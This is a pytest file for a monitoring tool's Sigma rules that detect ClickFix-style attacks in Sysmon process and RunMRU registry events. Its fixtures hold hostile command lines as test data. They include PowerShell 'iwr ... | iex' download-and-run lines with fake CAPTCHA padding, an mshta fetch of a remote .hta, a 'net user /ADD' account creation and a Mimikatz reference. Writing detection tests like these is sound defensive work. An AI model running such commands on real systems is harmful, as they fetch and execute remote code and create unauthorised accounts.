"""Sigma rules over process events: SigmaHQ's ClickFix rules, their regression sample, our pack."""

import json
from datetime import datetime, timedelta
from pathlib import Path

import pytest

from clinicshield.monitoring.core.detectors.context import DetectionContext
from clinicshield.monitoring.core.detectors.process_rules import detect_process_rules
from clinicshield.monitoring.core.sigma_rules import load_rules

from .conftest import at

SIGMA_DIR = Path(__file__).resolve().parents[3].parent / "shared" / "data" / "sigma"
REGRESSION = SIGMA_DIR / "regression-registry_delete_runmru"
RUNMRU_DELETE_RULE = "3a9b8c1e-5b2e-4f7a-9d1c-2a7f3b6e1c55"
RUNMRU = r"HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU"
START = at("2025-02-01 00:00")
needs_shared = pytest.mark.skipif(
    not SIGMA_DIR.is_dir(), reason=f"shared Sigma data missing: {SIGMA_DIR}"
)


def context(rules, start=START) -> DetectionContext:
    return DetectionContext(start=start, end=start + timedelta(days=1), sigma_rules=tuple(rules))


def sysmon_event(record: dict) -> dict:
    """A Sysmon event (EVTX-to-JSON shape) as a process row, the way ingestion maps it."""
    system, data = record["Event"]["System"], record["Event"]["EventData"]
    moment = datetime.fromisoformat(
        system["TimeCreated"]["#attributes"]["SystemTime"].replace("Z", "+00:00")
    )
    return {
        "ts": moment,
        "host": system["Computer"],
        "user": data.get("User", "").split("\\")[-1].lower(),
        "event_code": f"sysmon:{system['EventID']}",
        "image": data.get("Image"),
        "command_line": data.get("CommandLine"),
        "parent_image": data.get("ParentImage"),
        "target_object": data.get("TargetObject"),
        "details": data.get("Details"),
        "event_type": data.get("EventType"),
        "raw": json.dumps(data),
        "record_ref": str(system["EventRecordID"]),
    }


def process(ts, **fields) -> dict:
    row = {"ts": ts, "host": "reception-pc", "user": "ana", "record_ref": f"r{ts.timestamp():.0f}"}
    row.update(fields)
    return row


def run(minute, **fields):
    return process(START + timedelta(hours=9, minutes=minute), event_code="sysmon:1", **fields)


def runmru(minute, value):
    return process(
        START + timedelta(hours=9, minutes=minute),
        event_code="sysmon:13",
        event_type="SetValue",
        target_object=RUNMRU + r"\a",
        details=value,
    )


@needs_shared
def test_every_sigmahq_clickfix_rule_in_shared_data_loads():
    ruleset = load_rules([SIGMA_DIR], include_pack=False)
    assert ruleset.problems == []
    assert len(ruleset.rules) == 7
    assert RUNMRU_DELETE_RULE in {rule.id for rule in ruleset.rules}


@needs_shared
@pytest.mark.parametrize("sample", ["json", "evtx"])
def test_the_runmru_deletion_regression_sample_matches_its_rule_once(store, con, sample):
    if sample == "json":
        records = [json.loads((REGRESSION / f"{RUNMRU_DELETE_RULE}.json").read_text())]
    else:
        evtx = pytest.importorskip("evtx")
        parser = evtx.PyEvtxParser(str(REGRESSION / f"{RUNMRU_DELETE_RULE}.evtx"))
        records = [json.loads(r["data"]) for r in parser.records_json()]
    rows = [sysmon_event(r) for r in records]
    store("process", rows)
    ruleset = load_rules([SIGMA_DIR], include_pack=False)
    findings = detect_process_rules(
        con, store.table("process"), context(ruleset.rules, at("2025-10-24 00:00"))
    )
    matched = [rule["id"] for f in findings for rule in f.evidence["rules"]]
    assert matched == [RUNMRU_DELETE_RULE]  # match_count: 1 in info.yml
    assert findings[0].kind == "clickfix"
    assert findings[0].host == "ar-win-dc.attackrange.local"


def test_our_pack_catches_a_pasted_powershell_in_the_run_history(store, con):
    value = 'powershell -w hidden -c "iwr https://cdn.example/v.ps1|iex" # I am not a robot\\1'
    store("process", [runmru(1, value), runmru(2, "notepad\\1"), runmru(3, "cmd\\1")])
    findings = detect_process_rules(con, store.table("process"), context(load_rules([]).rules))
    assert [(f.kind, f.command_line) for f in findings] == [("clickfix", value)]
    assert findings[0].severity == "high"


def test_our_pack_catches_explorer_starting_mshta_or_padded_powershell(store, con):
    padded = "powershell.exe -c iex(iwr http://x.example/a)" + " " * 60 + "# Verification ID 8812"
    rows = [
        run(
            1,
            image=r"C:\Windows\System32\mshta.exe",
            parent_image=r"C:\Windows\explorer.exe",
            command_line="mshta https://captcha.example/verify.hta",
        ),
        run(
            2,
            image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            parent_image=r"C:\Windows\explorer.exe",
            command_line=padded,
        ),
        run(
            3,
            image=r"C:\Windows\System32\notepad.exe",
            parent_image=r"C:\Windows\explorer.exe",
            command_line="notepad.exe C:\\notes#1.txt",
        ),
        run(
            4,
            image=r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            parent_image=r"C:\Program Files\Backup\agent.exe",
            command_line="powershell -enc AAAA # scheduled",
        ),
    ]
    store("process", rows)
    findings = detect_process_rules(con, store.table("process"), context(load_rules([]).rules))
    assert sorted(f.command_line for f in findings) == sorted(
        ["mshta https://captcha.example/verify.hta", padded]
    )
    assert {f.kind for f in findings} == {"clickfix"}
    padded_finding = next(f for f in findings if f.command_line == padded)
    assert len(padded_finding.evidence["rules"]) == 2  # both of our explorer rules, one finding


def write_rule(folder: Path, name: str, detection: str, category: str = "process_creation") -> Path:
    text = f"""title: Test rule {name}
id: 00000000-0000-4000-8000-{abs(hash(name)) % 10**12:012d}
status: test
logsource:
    product: windows
    category: {category}
detection:
{detection}
level: medium
"""
    path = folder / f"{name}.yml"
    path.write_text(text)
    return path


def matches(store, con, tmp_path, detection, rows):
    folder = tmp_path / "rules"
    folder.mkdir(exist_ok=True)
    path = write_rule(folder, f"rule{len(list(folder.iterdir()))}", detection)
    store("process", rows)
    ruleset = load_rules([path], include_pack=False)
    assert ruleset.problems == []
    findings = detect_process_rules(con, store.table("process"), context(ruleset.rules))
    return sorted(f.command_line for f in findings)


def test_sigma_strings_are_case_insensitive_and_wildcards_work_inside(store, con, tmp_path):
    detection = """    selection:
        CommandLine: 'net user * /ADD'
    condition: selection"""
    rows = [run(1, command_line="NET USER eve Secr3t /add"), run(2, command_line="net user eve")]
    assert matches(store, con, tmp_path, detection, rows) == ["NET USER eve Secr3t /add"]


def test_not_matches_events_that_lack_the_field(store, con, tmp_path):
    detection = """    selection:
        Image|endswith: '\\whoami.exe'
    filter:
        ParentImage|endswith: '\\svchost.exe'
    condition: selection and not filter"""
    rows = [
        run(1, image="C:\\w\\whoami.exe", command_line="whoami /all"),
        run(2, image="C:\\w\\whoami.exe", parent_image="C:\\w\\svchost.exe", command_line="whoami"),
    ]
    assert matches(store, con, tmp_path, detection, rows) == ["whoami /all"]


def test_regex_and_fields_found_only_in_the_raw_event(store, con, tmp_path):
    detection = """    selection:
        OriginalFileName: 'REG.EXE'
        CommandLine|re: '(?i)delete\\s+hk'
    condition: selection"""
    rows = [
        run(1, command_line="reg DELETE HKCU\\x", raw=json.dumps({"OriginalFileName": "reg.exe"})),
        run(
            2, command_line="reg delete HKCU\\y", raw=json.dumps({"OriginalFileName": "other.exe"})
        ),
    ]
    assert matches(store, con, tmp_path, detection, rows) == ["reg DELETE HKCU\\x"]


def test_keywords_search_the_whole_raw_event(store, con, tmp_path):
    detection = """    keywords:
        - 'Invoke-Mimikatz'
    condition: keywords"""
    rows = [
        run(
            1,
            command_line="powershell x",
            raw=json.dumps({"ScriptBlock": "IEX; invoke-mimikatz -dump"}),
        ),
        run(2, command_line="powershell y", raw=json.dumps({"ScriptBlock": "Get-Date"})),
    ]
    assert matches(store, con, tmp_path, detection, rows) == ["powershell x"]


def test_a_broken_rule_is_reported_with_its_file_and_the_rest_still_load(tmp_path):
    broken = tmp_path / "broken.yml"
    broken.write_text(
        "title: Broken\nlogsource:\n    category: process_creation\n"
        "detection:\n    condition: nothing\n"
    )
    write_rule(tmp_path, "fine", "    selection:\n        Image: 'x'\n    condition: selection")
    (tmp_path / "dns.yml").write_text(
        "title: DNS\nlogsource:\n    category: dns_query\n"
        "detection:\n    s:\n        QueryName: x\n    condition: s\n"
    )
    ruleset = load_rules([tmp_path], include_pack=False)
    assert [rule.title for rule in ruleset.rules] == ["Test rule fine"]
    problems = {Path(p.path).name: p.message for p in ruleset.problems}
    assert set(problems) == {"broken.yml", "dns.yml"}
    assert "dns_query" in problems["dns.yml"]


WINDOWS_JSON = (
    SIGMA_DIR.parent / "windows-json" / "cmd_mshta_vbscript_execute_psh_2020-10-2202580804.json"
)


@needs_shared
def test_the_regression_sample_matches_after_real_ingestion(tmp_path, con):
    from clinicshield.monitoring.core.detectors.registry import run_detectors
    from clinicshield.monitoring.core.ingest import ingest_file

    ingest_file(REGRESSION / f"{RUNMRU_DELETE_RULE}.evtx", data_dir=tmp_path, org="lab")
    ingest_file(WINDOWS_JSON, data_dir=tmp_path, org="lab")
    rules = tuple(load_rules([SIGMA_DIR]).rules)
    runmru = context(rules, at("2025-10-24 00:00"))
    findings = run_detectors(con, tmp_path, "lab", runmru, only=["process_rules"])
    assert [[r["id"] for r in f.evidence["rules"]] for f in findings] == [[RUNMRU_DELETE_RULE]]
    # The mshta-launches-PowerShell attack run (cmd.exe parent, no Run dialog) is not ClickFix.
    mshta_day = DetectionContext(
        start=at("2020-10-22 00:00"), end=at("2020-10-23 00:00"), sigma_rules=rules
    )
    assert run_detectors(con, tmp_path, "lab", mshta_day, only=["process_rules"]) == []
